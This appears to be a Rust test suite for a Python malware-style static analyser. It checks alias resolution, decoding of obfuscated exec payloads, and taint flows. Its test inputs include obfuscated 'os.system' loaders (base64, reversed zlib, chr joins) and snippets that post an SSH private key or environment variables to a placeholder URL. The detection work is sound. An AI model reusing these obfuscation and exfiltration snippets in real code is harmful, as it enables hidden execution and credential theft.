//! Name resolution, folding and decoding, checked on small sources.

use ferret_python::{analyze, FactKind, FileRole, FlowConfig, Glob, Options};

fn flows() -> FlowConfig {
    FlowConfig {
        calls: vec![(Glob::new("base64.*decode"), ferret_python::flow::DECODED)],
        names: vec![(Glob::new("os.environ"), ferret_python::flow::ENV)],
        secret_paths: Some(regex::RegexSet::new([r"\.ssh/id_"]).unwrap()),
    }
}

fn calls(src: &str) -> Vec<(String, bool, u8, Option<u32>)> {
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    f.facts
        .iter()
        .filter_map(|x| match &x.kind {
            FactKind::Call(c) => Some((c.callee.clone(), c.dynamic, c.flows, x.payload)),
            _ => None,
        })
        .collect()
}

fn callees(src: &str) -> Vec<String> {
    calls(src).into_iter().map(|c| c.0).collect()
}

#[test]
fn resolves_aliases_and_dynamic_imports() {
    assert!(
        callees("import subprocess as sp\nsp.Popen('x')").contains(&"subprocess.Popen".to_string())
    );
    assert!(callees("from os import system as s\ns('x')").contains(&"os.system".to_string()));
    let c = calls("__import__('os').system('x')");
    assert!(c.iter().any(|c| c.0 == "os.system" && c.1), "{c:?}");
    let c = calls("import os\ngetattr(os, 'sys'+'tem')('x')");
    assert!(c.iter().any(|c| c.0 == "os.system" && c.1), "{c:?}");
    assert!(
        callees("globals()['__builtins__']['exec']('1')").contains(&"builtins.exec".to_string())
    );
    assert!(callees("import builtins\nbuiltins.exec('1')").contains(&"builtins.exec".to_string()));
    assert!(callees("import sys\nsys.modules['os'].system('x')").contains(&"os.system".to_string()));
    assert!(callees("e = exec\ne('1')").contains(&"builtins.exec".to_string()));
    assert!(
        callees("import importlib\nimportlib.import_module('subprocess').call('x')")
            .contains(&"subprocess.call".to_string())
    );
    // A local definition shadows the builtin.
    assert!(!callees("def exec(x):\n    pass\nexec('1')").contains(&"builtins.exec".to_string()));
    assert!(
        callees("import requests\ns = requests.Session()\ns.post('u')")
            .contains(&"requests.Session.post".to_string())
    );
}

#[test]
fn folds_and_decodes_payloads() {
    let src = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))";
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    assert_eq!(f.payloads.len(), 1, "{:?}", f.payloads);
    assert!(f.payloads[0].python);
    assert!(f.facts.iter().any(
        |x| matches!(&x.kind, FactKind::Call(c) if c.callee == "os.system") && x.payload.is_some()
    ));
    // Lambda decoder, reversed base64 of zlib.
    let inner = "import os; os.system('id')";
    let z = {
        use std::io::Write;
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(inner.as_bytes()).unwrap();
        e.finish().unwrap()
    };
    let b64 = base64_encode(&z);
    let rev: String = b64.chars().rev().collect();
    let src = format!("_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'{rev}'))\n");
    let f = analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    let p = f.payloads.iter().find(|p| p.python).expect("payload");
    let chain: Vec<_> = p.chain.iter().map(|s| s.as_str()).collect();
    assert_eq!(chain, ["reverse", "base64", "zlib"]);
    assert!(f
        .facts
        .iter()
        .any(|x| matches!(&x.kind, FactKind::Call(c) if c.callee == "os.system")));
    // chr() joins.
    let codes: Vec<String> = "import os;os.system('id')"
        .bytes()
        .map(|b| b.to_string())
        .collect();
    let src = format!("exec(''.join(chr(c) for c in [{}]))", codes.join(","));
    assert!(callees(&src).contains(&"os.system".to_string()));
    let src = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
    assert!(callees(&src).contains(&"os.system".to_string()));
}

#[test]
fn flows_reach_sinks() {
    let src = "import os, requests\ndef f():\n    d = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://x', data=d)\n";
    let c = calls(src);
    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
    assert_ne!(post.2 & ferret_python::flow::SECRET, 0, "{c:?}");
    let c = calls("import os, requests\nrequests.post('u', json=dict(os.environ))");
    let post = c.iter().find(|c| c.0 == "requests.post").unwrap();
    assert_ne!(post.2 & ferret_python::flow::ENV, 0, "{c:?}");
}

#[test]
fn deep_nesting_is_bounded() {
    // Redundant parentheses make no tree nodes: nothing to bound, but nothing may crash.
    let src = format!("x = {}1{}", "(".repeat(100_000), ")".repeat(100_000));
    analyze(
        src.as_bytes(),
        FileRole::Module,
        &flows(),
        &Options::default(),
    );
    let deep = [
        format!("x = {}1{}", "[".repeat(100_000), "]".repeat(100_000)),
        format!("x = {}1{}", "f(".repeat(100_000), ")".repeat(100_000)),
        format!("x = {}1", "-".repeat(100_000)),
        format!("x = {}1", "not ".repeat(100_000)),
        format!("x = {}1", "lambda: ".repeat(100_000)),
        format!("x = 1{}", "+1".repeat(100_000)),
    ];
    for src in deep {
        let f = analyze(
            src.as_bytes(),
            FileRole::Module,
            &flows(),
            &Options::default(),
        );
        assert!(
            f.issues.iter().any(|i| i.code == "nesting-too-deep-source"),
            "{}: {:?}",
            &src[..12],
            f.issues
        );
    }
}

fn base64_encode(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
